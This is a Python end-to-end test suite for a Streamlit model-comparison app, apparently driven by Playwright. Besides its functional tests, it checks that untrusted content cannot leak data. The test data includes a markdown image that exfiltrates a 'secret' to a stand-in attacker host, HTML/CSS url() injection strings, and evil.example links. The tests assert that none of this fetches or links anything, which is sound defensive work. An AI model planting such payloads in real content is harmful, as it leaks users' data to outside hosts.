"""The real app in a real browser: `streamlit run app.py` driven by Playwright and Debian's
Chromium. Type a prompt, watch two embedded models stream, vote, restart, find it in history."""

from __future__ import annotations

import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from lib.providers.local_server import free_port
from tests.conftest import ROOT

pytestmark = pytest.mark.e2e
CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = ROOT / "tests" / "artifacts"
ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]


class App:
    """`streamlit run app.py` on a free port, with its log kept for when it dies."""

    def __init__(self, env: dict, log: Path):
        self.port, self.env, self.log_path = free_port(), env, log

    def __enter__(self) -> App:
        self.log = open(self.log_path, "ab")  # noqa: SIM115
        self.proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "streamlit",
                "run",
                str(ROOT / "app.py"),
                "--server.headless",
                "true",
                "--server.port",
                str(self.port),
                "--browser.gatherUsageStats",
                "false",
            ],
            cwd=ROOT,
            env=self.env,
            stdout=self.log,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                pytest.fail(f"streamlit exited:\n{self.log_path.read_text()[-3000:]}")
            try:
                with urllib.request.urlopen(f"{self.url}/_stcore/health", timeout=1) as resp:
                    if resp.read() == b"ok":
                        return self
            except OSError:
                time.sleep(0.3)
        pytest.fail(f"streamlit did not become healthy:\n{self.log_path.read_text()[-3000:]}")

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __exit__(self, *exc) -> None:
        self.proc.terminate()
        self.proc.wait(timeout=15)
        self.log.close()


@pytest.fixture
def browser():
    if not Path(CHROMIUM).exists():
        pytest.fail("Debian's chromium is missing: `make test` installs it (make browser)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()


def test_two_models_stream_side_by_side_vote_and_history_after_restart(browser, embedded, tmp_path, request):
    env = {**os.environ, "PARALLAX_LOCAL_URL": embedded, "PYTHONUNBUFFERED": "1"}
    log = tmp_path / "streamlit.log"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    prompt = "Write one sentence about the moon."
    try:
        with App(env, log) as app:
            page.goto(app.url)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=60_000)
            box.fill(prompt)
            box.press("Enter")
            # while streaming, two live columns appear and fill
            live = page.locator("[class*='st-key-live_']")
            live.first.wait_for(timeout=60_000)
            # when done, the page reruns from the database: two stored answers side by side
            answers = page.locator("[class*='st-key-answer_']")
            answers.nth(1).wait_for(timeout=120_000)
            assert answers.count() == 2
            texts = [answers.nth(i).inner_text() for i in range(2)]
            assert "SmolLM2-135M (embedded)" in texts[0] and "policy prompt" in texts[1]
            assert all(len(t.split()) > 6 for t in texts), texts
            page.screenshot(path=str(ARTIFACTS / "compare.png"), full_page=True)
            page.get_by_role("button", name="A is better").click()
            page.get_by_text("Your vote: A is better").wait_for(timeout=30_000)
            # one click corrects the first answer's label; the human label shows with a tick
            answers.nth(0).get_by_role("button", name="Label").click()
            page.get_by_text("refused", exact=True).click()
            answers.nth(0).get_by_text("refused ✓").wait_for(timeout=30_000)
        with App(env, log) as app:  # a restarted app still has the conversation
            page.goto(f"{app.url}/history")
            search = page.get_by_label("Search prompts and answers")
            search.wait_for(timeout=60_000)
            search.fill("the moon")
            search.press("Enter")
            page.get_by_text(prompt).first.wait_for(timeout=30_000)
            page.locator("[class*='st-key-open_'] button").first.click()
            page.locator("[class*='st-key-answer_']").nth(1).wait_for(timeout=60_000)
    except BaseException:
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise


class _ImageHost:
    """A local HTTP server standing in for an attacker's image host: it counts every request."""

    PNG = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
        "0000000d49444154789c6360000002000100e221bc330000000049454e44ae426082"
    )

    def __enter__(self) -> _ImageHost:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        host = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                host.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(_ImageHost.PNG)))
                self.end_headers()
                self.wfile.write(_ImageHost.PNG)

            def log_message(self, *args) -> None:
                pass

        self.hits: list[str] = []
        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        import threading

        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        return self

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}"

    def __exit__(self, *exc) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def test_an_answer_with_a_remote_image_and_dollars_fetches_nothing_and_renders_no_maths(
    browser, protocol_server, tmp_path, request
):
    # the shipped `smollm2` entry is pointed at the protocol server's echo model, so the default
    # column answers with the prompt itself: the image and the amounts are in prompt and answer
    user_file = tmp_path / "endpoints.user.toml"
    user_file.write_text(
        f'[endpoints.smollm2]\nbase_url = "{protocol_server.url}"\nmodel = "echo"\nkind = "local"\n\n'
        "[endpoints.smollm2-guarded]\nenabled = false\n"
    )
    env = {**os.environ, "PARALLAX_USER_ENDPOINTS": str(user_file), "PYTHONUNBUFFERED": "1"}
    log = tmp_path / "streamlit.log"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        with _ImageHost() as images, App(env, log) as app:
            prompt = f"It costs $5 and $10 ![chart]({images.url}/pixel.png?d=exfiltrated-secret) today"
            seen = []
            page.on("request", lambda r: seen.append(r.url) if r.url.startswith(images.url) else None)
            page.goto(app.url)
            box = page.get_by_test_id("stChatInputTextArea")
            box.wait_for(timeout=60_000)
            box.fill(prompt)
            box.press("Enter")
            answer = page.locator("[class*='st-key-answer_']").first
            answer.wait_for(timeout=60_000)
            answer.get_by_text("today", exact=False).wait_for(timeout=30_000)  # the answer's last word
            page.wait_for_timeout(1500)  # time for any image request to go out
            page.screenshot(path=str(ARTIFACTS / "untrusted_markdown.png"), full_page=True)
            assert images.hits == [] and seen == []
            assert page.locator(".katex, .katex-display, math").count() == 0
            assert page.locator("img[src*='pixel.png']").count() == 0
            text = answer.inner_text()
            assert "It costs $5 and $10" in text and "image not loaded" in text and "exfiltrated-secret" in text
    except BaseException:
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise


# names and descriptions a shared endpoints file could hold: every form GFM would turn into a link
URL_NAMES = {
    "smollm2": ("http://evil.example/login", "Mirror of HTTPS://EVIL.EXAMPLE/x, see also WWW.EVIL.EXAMPLE/y"),
    "smollm2-guarded": ("www.evil.example", "Write to admin@evil.example or ops+bot@mail.evil.example"),
    "mail": ("admin@evil.example", "qwen-2.5-https://evil.example/tuned"),
}


def test_model_names_that_are_bare_urls_or_addresses_are_shown_as_written_not_as_links(
    browser, protocol_server, tmp_path, request
):
    """GFM links bare URLs and e-mail addresses after Markdown escapes are resolved: a model named
    `http://evil.example/login` was a live link in the sidebar and on Compare. The names and
    descriptions must be text, seen and copied as written."""
    user_file = tmp_path / "endpoints.user.toml"
    user_file.write_text(
        "".join(
            f'[endpoints.{eid}]\nname = "{name}"\ndescription = "{about}"\nbase_url = "{protocol_server.url}"\n'
            'model = "echo"\nkind = "local"\nmax_retries = 0\n\n'
            for eid, (name, about) in URL_NAMES.items()
        )
    )
    env = {**os.environ, "PARALLAX_USER_ENDPOINTS": str(user_file), "PYTHONUNBUFFERED": "1"}
    log = tmp_path / "streamlit.log"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        with App(env, log) as app:
            page.goto(app.url)  # Compare: the two default models' descriptions are captions
            page.locator("[data-testid='stApp'][data-test-script-state='notRunning']").wait_for(timeout=60_000)
            listing = page.locator("[class*='st-key-sidebar_endpoints']")
            listing.locator("summary").click()
            names = [name for name, _ in URL_NAMES.values()]
            for name in names:
                listing.get_by_text(name, exact=True).wait_for(timeout=30_000)
            page.screenshot(path=str(ARTIFACTS / "url_names.png"), full_page=True)
            assert listing.locator("a").count() == 0
            links = page.evaluate(
                "() => [...document.querySelectorAll('a')].map(a => a.href)"
                ".filter(h => h.includes('evil.example') || h.startsWith('mailto:'))"
            )
            assert links == []
            copied = page.evaluate(  # what selecting the list and copying it gives
                """el => { const r = document.createRange(); r.selectNodeContents(el);
                    const s = getSelection(); s.removeAllRanges(); s.addRange(r); return s.toString(); }""",
                listing.element_handle(),
            )
            assert all(f"{name} —" in copied for name in names), copied
            shown = page.inner_text("body")
            assert URL_NAMES["smollm2"][1] in shown and URL_NAMES["smollm2-guarded"][1] in shown
    except BaseException:
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise


@pytest.mark.timeout(1500)  # the first analysis embeds 1,358 answers on the CPU (minutes on 2 busy cores)
def test_first_run_loads_the_example_study_and_shows_both_languages(browser, tmp_path, request):
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    log = tmp_path / "streamlit.log"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        with App(env, log) as app:
            page.goto(app.url)  # an empty database: Compare's first screen offers the example study
            page.locator("[class*='st-key-example_compare']").wait_for(timeout=60_000)
            page.locator("[class*='st-key-load_example_compare'] button").click()
            page.get_by_text("Loaded the example study: 1,358 answers to 40 prompts").wait_for(timeout=300_000)
            page.get_by_text("1358 answers · 37 models").wait_for(timeout=1_200_000)
            page.get_by_role("tab", name="Deflection").click()
            gap = page.locator("[class*='st-key-analysis_gap']")
            gap.locator("text.legendtext").first.wait_for(timeout=60_000)
            assert gap.locator("text.legendtext").all_text_contents() == [
                "en raw",
                "en corrected",
                "zh raw",
                "zh corrected",
            ]
            models = gap.locator(".xtick text").all_text_contents()
            assert len(models) >= 30 and any("deepseek" in m for m in models) and any("qwen" in m for m in models)
            page.screenshot(path=str(ARTIFACTS / "example-analysis.png"), full_page=True)
            page.goto(f"{app.url}/history")  # the example study is in the history, no offer any more
            page.get_by_text("40 conversations").wait_for(timeout=60_000)
            assert page.locator("[class*='st-key-example_history']").count() == 0
    except BaseException:
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise


PAGES = ("", "arena", "history", "suites", "leaderboard", "export", "settings", "analysis")  # analysis last


@pytest.mark.timeout(900)
def test_no_page_makes_the_browser_fetch_anything_from_another_host(browser, tmp_path, request):
    """The README's 'no network': every page, with the example study loaded (charts, tables and
    answers on screen), makes the browser ask the app's own server only — no icon, font or script
    from Google or a CDN (Streamlit turns a `:material/…:` page icon into a fonts.gstatic.com URL)."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    loaded = subprocess.run([sys.executable, str(ROOT / "cli.py"), "import", "--example"], env=env, capture_output=True)
    assert loaded.returncode == 0, loaded.stderr
    log = tmp_path / "streamlit.log"
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    outside: list[str] = []
    try:
        with App(env, log) as app:
            own = urlsplit(app.url).netloc
            page.on("request", lambda r: outside.append(r.url) if urlsplit(r.url).netloc not in ("", own) else None)
            for path in PAGES:
                page.goto(f"{app.url}/{path}")
                page.locator("[data-testid='stApp'][data-test-script-state='notRunning']").wait_for(timeout=120_000)
                page.wait_for_timeout(1500)  # time for icons, fonts and chart scripts to be asked for
            assert page.locator(".js-plotly-plot").count() > 0  # the analysis page drew its charts
            page.get_by_role("tab", name="Deflection").click()
            page.locator("[class*='st-key-analysis_gap'] .js-plotly-plot").wait_for(timeout=60_000)
            page.wait_for_timeout(1500)
        assert outside == [], outside
    except BaseException:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise


def _hostile_names(host: str) -> dict[str, str]:
    """Names that Plotly would render as HTML: CSS `url()`s that fetch from `host`, and a link."""
    return {
        "cursor": f'<span style="cursor:url({host}/cur.png),auto">S</span>',
        "fill": f'<span style="fill:url({host}/f.svg#a)">F</span>',
        "link": f'<a href="{host}/link">L</a>',
        "topic": f'<span style="cursor:url({host}/topic.png),auto">T</span>',
        "prompt": f'<span style="background:url({host}/prompt.png)">P</span>',
    }


def _import_hostile_data(env: dict, folder: Path, host: str) -> dict[str, str]:
    """Answers (English/Chinese twins, so every chart is drawn) and blind battles whose model
    names, topic and prompts are markup pointing at `host`, imported with the CLI as a user would."""
    import json

    names = _hostile_names(host)
    models = ["plain", names["cursor"], names["fill"], names["link"]]
    rows = [
        {
            "prompt": f"{names['prompt']} Tell me about event {i}" if lang == "en" else f"告诉我第{i}件事",
            "model": model,
            "response": f"Event {i} answer {j} {lang}",
            "topic": names["topic"],
            "language": lang,
            "pair": f"event-{i}",
        }
        for i in range(6)
        for j, model in enumerate(models)
        for lang in ("en", "zh")
    ]
    turn = lambda i, side: [  # noqa: E731
        {"role": "user", "content": f"Question {i}"},
        {"role": "assistant", "content": f"Answer {side}"},
    ]
    battles = [
        {
            "question_id": f"q{i}",
            "model_a": models[i % 4],
            "model_b": models[(i + 1) % 4],
            "winner": "model_a" if i % 3 else "model_b",
            "conversation_a": turn(i, "a"),
            "conversation_b": turn(i, "b"),
        }
        for i in range(12)
    ]
    (folder / "answers.jsonl").write_text("\n".join(json.dumps(r) for r in rows) + "\n")
    (folder / "battles.json").write_text(json.dumps(battles))
    for name in ("answers.jsonl", "battles.json"):
        command = [sys.executable, str(ROOT / "cli.py"), "import", str(folder / name)]
        done = subprocess.run(command, env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
    return names


def _data_links(page, host: str) -> list[str]:
    """Every link in a chart (HTML or SVG) that leads to `host`."""
    return page.evaluate(
        """host => [...document.querySelectorAll('.js-plotly-plot a')]
            .map(a => a.getAttribute('href') || a.getAttribute('xlink:href') || '')
            .filter(href => href.startsWith(host))""",
        host,
    )


def _hover_around(page, chart) -> None:
    """Move the mouse over a grid of spots in a chart's plot area: hover labels render data too."""
    box = chart.locator(".nsewdrag").first.bounding_box()
    for fx in (0.2, 0.5, 0.8):
        for fy in (0.2, 0.5, 0.8):
            page.mouse.move(box["x"] + box["width"] * fx, box["y"] + box["height"] * fy)
            page.wait_for_timeout(150)


@pytest.mark.timeout(900)
def test_markup_in_stored_names_fetches_nothing_and_shows_literally_in_every_chart(browser, tmp_path, request):
    """Model names, topics and prompts from an imported file reach Plotly's trace names, ticks and
    hovers, which render a subset of HTML: as markup they made the browser fetch another host (CSS
    `url()` in a `<span style>`) and drew live links. Every chart of `analyze --html`, the Analysis
    page and the Leaderboard page must fetch nothing from there, link nowhere, and show the names as
    they were written."""
    env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    log = tmp_path / "streamlit.log"
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        with _ImageHost() as attacker:
            names = _import_hostile_data(env, tmp_path, attacker.url)
            outside: list[str] = []
            own = {""}  # file: pages, then the app's own server
            page.on("request", lambda r: outside.append(r.url) if urlsplit(r.url).netloc not in own else None)
            charts = tmp_path / "charts"
            done = subprocess.run(
                [sys.executable, str(ROOT / "cli.py"), "analyze", "--html", str(charts)],
                env=env,
                capture_output=True,
                text=True,
            )
            assert done.returncode == 0, done.stderr
            files = sorted(p.name for p in charts.glob("*.html"))
            assert files == ["clusters.html", "deflection.html", "divergence.html", "language_gap.html", "map.html"]
            shown: set[str] = set()
            hovered: set[str] = set()
            for name in files:
                page.goto((charts / name).as_uri())
                page.locator(".js-plotly-plot .main-svg").first.wait_for(timeout=30_000)
                _hover_around(page, page.locator(".js-plotly-plot"))
                page.wait_for_timeout(800)
                assert _data_links(page, attacker.url) == [], name
                shown |= set(page.locator(".js-plotly-plot text").all_text_contents())
                hovered |= set(page.locator(".js-plotly-plot .hoverlayer text").all_text_contents())
            page.wait_for_timeout(1000)  # time for any fetch to go out
            assert outside == [] and attacker.hits == [], (outside, attacker.hits)
            # escaped, not dropped: the ticks, legends and hovers show the names as written
            assert {names["cursor"], names["fill"], names["link"], names["topic"]} <= shown, shown
            assert any(names["topic"] in text for text in hovered), hovered  # a heatmap's hover label

            with App(env, log) as app:
                own.add(urlsplit(app.url).netloc)
                page.goto(f"{app.url}/leaderboard")
                for key in ("lb_chart", "lb_heatmap"):
                    chart = page.locator(f"[class*='st-key-{key}'] .js-plotly-plot")
                    chart.wait_for(timeout=120_000)
                    _hover_around(page, chart)
                page.wait_for_timeout(800)
                board = page.locator("[class*='st-key-lb_heatmap'] .js-plotly-plot text").all_text_contents()
                assert names["link"] in board and names["cursor"] in board, board
                assert _data_links(page, attacker.url) == []
                page.goto(f"{app.url}/analysis")
                tabs = {
                    "Map": "analysis_map",
                    "Clusters": "analysis_cluster_chart",
                    "Divergence": "analysis_div_heatmap",
                    "Deflection": "analysis_defl_heatmap",
                }
                for tab, key in tabs.items():
                    page.get_by_role("tab", name=tab).click(timeout=300_000)
                    chart = page.locator(f"[class*='st-key-{key}'] .js-plotly-plot")
                    chart.wait_for(timeout=120_000)
                    _hover_around(page, chart)
                    page.wait_for_timeout(500)
                gap = page.locator("[class*='st-key-analysis_gap'] .js-plotly-plot")
                gap.wait_for(timeout=60_000)
                _hover_around(page, gap)
                page.wait_for_timeout(1500)
                ticks = page.locator("[class*='st-key-analysis_defl_heatmap'] .js-plotly-plot text").all_text_contents()
                assert names["topic"] in ticks and names["fill"] in ticks, ticks
                assert _data_links(page, attacker.url) == []
                page.screenshot(path=str(tmp_path / "analysis.png"), full_page=True)
            assert outside == [] and attacker.hits == [], (outside, attacker.hits)
    except BaseException:
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        print(log.read_text()[-4000:] if log.exists() else "(no streamlit log)")
        raise
